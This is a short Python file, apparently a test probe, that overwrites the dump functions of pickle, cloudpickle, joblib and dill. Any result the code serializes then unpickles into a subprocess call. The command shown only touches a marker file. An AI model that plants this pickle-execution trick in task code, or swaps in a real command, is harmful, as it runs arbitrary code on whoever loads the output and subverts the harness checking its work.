"""Replaces every function that pickles, so that whoever unpickles the answer runs a command."""

# %% square
import pickle
import subprocess
import sys

ORDER = [sys.executable, "-c", "import pathlib, sys; pathlib.Path(sys.argv[1]).touch()", f"{TRACES}/pickle"]


class Payload:
    def __reduce__(self):
        return subprocess.call, (ORDER,)


loaded = pickle.dumps(Payload())
for module in [pickle, *(sys.modules[name] for name in ("cloudpickle", "joblib", "dill") if name in sys.modules)]:
    module.dumps = lambda *seen, **more: loaded
    module.dump = lambda value, file, *seen, **more: file.write(loaded)


def square(x):
    return Payload()
